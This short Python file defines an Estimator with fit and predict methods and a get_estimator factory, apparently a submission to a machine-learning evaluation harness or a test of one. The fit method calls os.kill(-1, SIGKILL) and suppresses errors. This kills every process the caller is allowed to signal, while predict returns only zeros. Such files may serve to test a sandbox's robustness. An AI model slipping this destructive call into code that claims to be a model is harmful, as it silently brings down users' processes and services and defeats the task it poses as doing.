"""Kills every process it may."""

import contextlib
import os
import signal

import numpy as np


class Estimator:
    def fit(self, X, y):
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)
        return self

    def predict(self, X):
        return np.zeros(len(X))


def get_estimator():
    return Estimator()
